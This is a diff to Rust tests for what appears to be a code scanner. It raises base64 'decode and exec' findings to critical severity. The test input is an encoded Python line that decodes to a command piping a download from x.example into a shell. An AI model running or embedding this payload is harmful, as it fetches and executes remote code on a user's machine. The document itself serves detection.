@@ -269,10 +269,10 @@ mod tests {
         }
     }
 
-    /// Decoding and running a payload that does nothing risky (a lesson's `print("Hello")`) is high; the same call
-    /// with a download piped to a shell inside is critical.
+    /// Decoding and running a payload is critical whatever it decodes to (a harmless first stage today is still
+    /// hidden code run); the message says when the decoded text does nothing risky.
     #[test]
-    fn a_harmless_payload_run_from_base64_is_high_not_a_threat() {
+    fn a_payload_run_from_base64_is_critical_whatever_it_says() {
         use crate::rules::tests::{level, run};
         use airlock_types::{FileKind, Severity};
         let lesson = run(
@@ -282,13 +282,23 @@ mod tests {
         );
         assert_eq!(
             level("obfusc/encoded-exec", &lesson),
-            Some(Severity::High),
+            Some(Severity::Critical),
+            "{lesson:?}"
+        );
+        assert!(
+            lesson
+                .iter()
+                .any(|f| f.rule == "obfusc/encoded-exec" && f.message.contains("does nothing risky today")),
             "{lesson:?}"
         );
         let payload = run(FileKind::Script, "x.py", "exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cHM6Ly94LmV4YW1wbGUvcCB8IHNoJyk='))\n");
         assert_eq!(
             level("obfusc/encoded-exec", &payload),
             Some(Severity::Critical),
+            "{payload:?}"
+        );
+        assert!(
+            payload.iter().all(|f| !f.message.contains("does nothing risky")),
             "{payload:?}"
         );
     }
